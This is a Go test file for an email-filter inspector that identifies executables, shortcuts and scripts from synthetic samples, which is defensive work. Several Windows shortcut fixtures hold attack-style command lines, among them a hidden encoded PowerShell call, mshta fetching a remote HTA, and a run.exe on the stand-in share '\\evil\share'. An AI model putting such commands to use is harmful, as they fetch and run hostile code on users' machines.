package exe

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/officemilter/officemilter/inspect"
	"github.com/officemilter/officemilter/inspect/inspecttest"
)

func TestInspect(t *testing.T) {
	zipped := makeZip("payload.exe", makePE(peSpec{machine: 0x14c, subsystem: 2}))
	nsis := append([]byte{0, 0, 0, 0}, []byte("\xef\xbe\xad\xdeNullsoftInst")...)
	sevenZ := append([]byte(";!@Install@!UTF-8!\nTitle=\"x\"\n;!@InstallEnd@!"), []byte{'7', 'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4}...)
	fat := makeFat([]uint32{0x01000007, 0x0100000c}, [][]byte{makeMachO(true, false, 0x01000007, 2), makeMachO(true, false, 0x0100000c, 2)})
	tests := []struct {
		name     string
		file     string
		data     []byte
		typ      string
		detail   string
		children []string
	}{
		{"PE32 GUI", "a.exe", makePE(peSpec{machine: 0x14c, subsystem: 2}), "pe", "PE32 executable (i386, GUI)", nil},
		{"PE32+ console", "a.exe", makePE(peSpec{plus: true, machine: 0x8664, subsystem: 3}), "pe", "PE32+ executable (amd64, console)", nil},
		{"PE32+ DLL", "a.dll", makePE(peSpec{plus: true, machine: 0x8664, subsystem: 2, dll: true}), "pe", "PE32+ DLL (amd64)", nil},
		{".NET", "a.exe", makePE(peSpec{machine: 0x14c, subsystem: 3, clr: true}), "pe", "PE32 executable (i386, console), .NET assembly", nil},
		{"ARM64 unknown subsystem", "a.exe", makePE(peSpec{plus: true, machine: 0xaa64, subsystem: 99}), "pe", "PE32+ executable (arm64)", nil},
		{"unknown machine", "a.exe", makePE(peSpec{machine: 0x1234, subsystem: 2}), "pe", "PE32 executable (machine 0x1234, GUI)", nil},
		{"tiny lfanew", "a.exe", makePE(peSpec{machine: 0x14c, subsystem: 2, lfanew: 0x40}), "pe", "PE32 executable (i386, GUI)", nil},
		{"zip SFX", "sfx.exe", makePE(peSpec{machine: 0x14c, subsystem: 2, overlay: zipped}), "pe", "PE32 executable (i386, GUI), self-extracting zip", []string{"overlay.zip"}},
		{"7z SFX after config", "sfx.exe", makePE(peSpec{machine: 0x14c, subsystem: 2, overlay: sevenZ}), "pe", "PE32 executable (i386, GUI), self-extracting 7z", []string{"overlay.7z"}},
		{"NSIS", "setup.exe", makePE(peSpec{machine: 0x14c, subsystem: 2, overlay: nsis}), "pe", "PE32 executable (i386, GUI), Nullsoft installer", nil},
		{"signed, PK in certificate only", "a.exe", makePE(peSpec{machine: 0x14c, subsystem: 2, cert: 64}), "pe", "PE32 executable (i386, GUI)", nil},
		{"PK without zip end", "a.exe", makePE(peSpec{machine: 0x14c, subsystem: 2, overlay: []byte("junkPK\x03\x04junk")}), "pe", "PE32 executable (i386, GUI)", nil},
		{"DOS", "a.com", append([]byte("MZ"), make([]byte, 100)...), "pe", "DOS executable", nil},
		{"DOS short", "a.com", []byte("MZ\x90\x00"), "pe", "DOS executable", nil},
		{"lfanew beyond end", "a.exe", func() []byte { b := make([]byte, 64); copy(b, "MZ"); b[0x3c] = 0xff; b[0x3f] = 0x7f; return b }(), "pe", "DOS executable", nil},
		{"NE", "a.exe", func() []byte { b := make([]byte, 128); copy(b, "MZ"); b[0x3c] = 0x40; copy(b[0x40:], "NE"); return b }(), "pe", "NE executable (16-bit Windows or OS/2)", nil},
		{"ELF64 LSB exec", "a", makeELF(elfSpec{is64: true, typ: 2, machine: 62}), "elf", "ELF 64-bit LSB executable, x86-64", nil},
		{"ELF32 MSB exec", "a", makeELF(elfSpec{big: true, typ: 2, machine: 8}), "elf", "ELF 32-bit MSB executable, MIPS", nil},
		{"ELF32 LSB shared", "a.so", makeELF(elfSpec{typ: 3, machine: 40}), "elf", "ELF 32-bit LSB shared object, ARM", nil},
		{"ELF64 MSB pie", "a", makeELF(elfSpec{is64: true, big: true, typ: 3, machine: 22, interp: true}), "elf", "ELF 64-bit MSB pie executable, IBM S/390", nil},
		{"ELF64 LSB relocatable", "a.o", makeELF(elfSpec{is64: true, typ: 1, machine: 183}), "elf", "ELF 64-bit LSB relocatable, ARM aarch64", nil},
		{"ELF core", "core", makeELF(elfSpec{is64: true, typ: 4, machine: 243}), "elf", "ELF 64-bit LSB core file, RISC-V", nil},
		{"ELF truncated", "a", []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), "elf", "ELF 64-bit LSB executable, x86-64 (truncated header)", nil},
		{"ELF bad class", "a", []byte("\x7fELF\x09\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), "elf", "ELF (invalid class 9)", nil},
		{"ELF phdrs beyond end", "a", func() []byte { b := makeELF(elfSpec{is64: true, typ: 2, machine: 62}); b[56] = 0xff; return b }(), "elf", "ELF 64-bit LSB executable, x86-64 (malformed: program headers beyond end of file)", nil},
		{"Mach-O 64 LE", "a", makeMachO(true, false, 0x01000007, 2), "macho", "Mach-O 64-bit executable (x86_64)", nil},
		{"Mach-O 64 BE ppc64", "a", makeMachO(true, true, 0x01000012, 2), "macho", "Mach-O 64-bit executable (ppc64)", nil},
		{"Mach-O 32 LE dylib", "a.dylib", makeMachO(false, false, 7, 6), "macho", "Mach-O 32-bit dynamically linked shared library (i386)", nil},
		{"Mach-O 32 BE bundle", "a", makeMachO(false, true, 18, 8), "macho", "Mach-O 32-bit bundle (ppc)", nil},
		{"Mach-O fat", "a", fat, "macho", "Mach-O universal binary (2 architectures: x86_64, arm64)", nil},
		{"Mach-O fat truncated", "a", fat[:60], "macho", "Mach-O universal binary (2 architectures: x86_64, arm64) (malformed: slices beyond end of file)", nil},
		{"Java 8", "A.class", makeClass(52), "", "Java class file (Java 8)", nil},
		{"Java 21", "A.class", makeClass(65), "", "Java class file (Java 21)", nil},
		{"Java 1.1", "A.class", makeClass(45), "", "Java class file (Java 1.1)", nil},
		{"LNK local", "a.lnk", makeLNK(lnkSpec{localPath: `C:\Windows\System32\cmd.exe`, args: "/c calc.exe"}), "lnk", `Windows shortcut -> C:\Windows\System32\cmd.exe /c calc.exe`, nil},
		{"LNK local unicode args", "a.lnk", makeLNK(lnkSpec{localPath: `C:\Windows\`, suffix: `System32\WindowsPowerShell\v1.0\powershell.exe`, args: "-w hidden -enc ÄÖÜ", unicode: true}), "lnk", `Windows shortcut -> C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc ÄÖÜ`, nil},
		{"LNK network", "a.lnk", makeLNK(lnkSpec{netName: `\\evil\share`, suffix: `run.exe`}), "lnk", `Windows shortcut -> \\evil\share\run.exe`, nil},
		{"LNK env block", "a.lnk", makeLNK(lnkSpec{envTarget: `%windir%\system32\mshta.exe`, args: "http://x/y.hta"}), "lnk", `Windows shortcut -> %windir%\system32\mshta.exe http://x/y.hta`, nil},
		{"LNK idlist", "a.lnk", makeLNK(lnkSpec{idList: []string{"C:", "WINDOWS", "system32", "cmd.exe"}, args: "/k whoami"}), "lnk", `Windows shortcut -> C:\WINDOWS\system32\cmd.exe /k whoami`, nil},
		{"LNK relative path", "a.lnk", makeLNK(lnkSpec{relPath: `.\x.bat`, unicode: true}), "lnk", `Windows shortcut -> .\x.bat`, nil},
		{"LNK long args truncated", "a.lnk", makeLNK(lnkSpec{localPath: `C:\a.exe`, args: strings.Repeat("A", 500)}), "lnk", `Windows shortcut -> C:\a.exe ` + strings.Repeat("A", 111) + "...", nil},
		{"LNK header only", "a.lnk", makeLNK(lnkSpec{})[:0x4C], "lnk", "Windows shortcut", nil},
		{"LNK args with control chars", "a.lnk", makeLNK(lnkSpec{localPath: `C:\a.exe`, args: "x\r\ny\x00z"}), "lnk", `Windows shortcut -> C:\a.exe x  y`, nil},
		{"powershell", "a.ps1", []byte("Write-Host hi\n"), "script", "script (powershell)", nil},
		{"shebang", "run", []byte("#!/bin/sh\necho hi\n"), "script", "script (shebang /bin/sh)", nil},
		{"shebang with BOM and ext", "x.py", []byte("\xef\xbb\xbf#!/usr/bin/env python3\r\nprint(1)\n"), "script", "script (python, shebang /usr/bin/env python3)", nil},
		{"encoded vbs", "x.vbe", []byte("#@~^GQAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"), "script", "script (vbscript-encoded, encoded VBScript/JScript)", nil},
		{"encoded in wsf", "x.wsf", []byte("<job><script language=\"VBScript.Encode\">#@~^AAAAAA==^#~@</script></job>"), "script", "script (windows-script-file, encoded VBScript/JScript)", nil},
		{"internet shortcut", "x.url", []byte("[InternetShortcut]\nURL=file://evil/x.exe\n"), "script", "script (internet-shortcut)", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := run(tc.file, tc.data)
			if err != nil {
				t.Fatalf("error %v", err)
			}
			if r.Type != tc.typ {
				t.Errorf("type %q, want %q", r.Type, tc.typ)
			}
			if len(r.Findings) != 1 || r.Findings[0].Kind != inspect.KindExecutable || r.Findings[0].Detail != tc.detail {
				t.Errorf("findings %+v, want one executable %q", r.Findings, tc.detail)
			}
			var names []string
			for _, c := range r.Children {
				names = append(names, c.Name)
			}
			if strings.Join(names, ",") != strings.Join(tc.children, ",") {
				t.Errorf("children %q, want %q", names, tc.children)
			}
		})
	}
}

// TestOverlayChild checks that what a self-extractor carries reaches the
// engine whole: the zip handed over is the appended archive, not more.
func TestOverlayChild(t *testing.T) {
	z := makeZip("payload.exe", []byte("MZ payload"))
	r, err := run("sfx.exe", makePE(peSpec{machine: 0x14c, subsystem: 2, overlay: z}))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Children) != 1 || !bytes.Equal(r.Children[0].Data, z) {
		t.Fatalf("children %d; want the zip of %d bytes", len(r.Children), len(z))
	}
}

// TestEngine runs a self-extractor through the real engine: the overlay is
// sniffed as a zip, and the engine reports no inspector for it here (the
// archive package is not wired in this test), which proves the hand-over.
func TestEngine(t *testing.T) {
	e := inspecttest.Engine(inspect.Limits{}, Families, func(inspect.Family) inspect.Inspector { return New() })
	b := makePE(peSpec{machine: 0x14c, subsystem: 2, overlay: makeZip("a.txt", []byte("hello"))})
	res := e.Inspect(context.Background(), "sfx.exe", "", bytes.NewReader(b), int64(len(b)))
	if res.Type != "pe" || !res.HasAt(inspect.KindExecutable, "") {
		t.Fatalf("type %s findings %+v", res.Type, res.Findings)
	}
	if !res.HasAt(inspect.KindUnscannable, "overlay.zip") {
		t.Errorf("overlay not handed to the engine: %+v", res.Findings)
	}
}

// TestCorpusDetails reads the shared corpus in place (never copied) and
// checks the precise details of its executables.
func TestCorpusDetails(t *testing.T) {
	dir := filepath.Join(inspecttest.CorpusPath(t), "executable")
	if _, err := os.Stat(dir); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("shared corpus missing under CI: %v", err)
		}
		t.Skip("shared corpus not available")
	}
	want := map[string]string{
		"koswald__Elevate.vbs":                      "script (vbscript)",
		"koswald__Get-Members.ps1":                  "script (powershell)",
		"koswald__Register.bat":                     "script (batch)",
		"pyelftools__sample_exe64.elf":              "ELF 64-bit LSB executable, x86-64",
		"pyinstaller__Darwin-64bit__run":            "Mach-O universal binary (2 architectures: x86_64, arm64)",
		"pyinstaller__Linux-64bit-intel__run":       "ELF 64-bit LSB executable, x86-64",
		"pyinstaller__Windows-32bit-intel__run.exe": "PE32 executable (i386, console)",
		"tika__testTinyPE.exe":                      "PE32 executable (i386, GUI)",
	}
	for name, detail := range want {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		r, err := run(name, b)
		if err != nil || len(r.Findings) != 1 || r.Findings[0].Detail != detail {
			t.Errorf("%s: err %v findings %+v, want %q", name, err, r.Findings, detail)
		}
	}
}

// TestCanceled: a done context is honoured.
func TestCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	b := makePE(peSpec{machine: 0x14c})
	p := inspect.Part{Size: int64(len(b)), R: bytes.NewReader(b), Family: inspect.FamilyPE}
	if err := New().Inspect(ctx, p, &recScope{}); err == nil {
		t.Fatal("no error with a canceled context")
	}
}
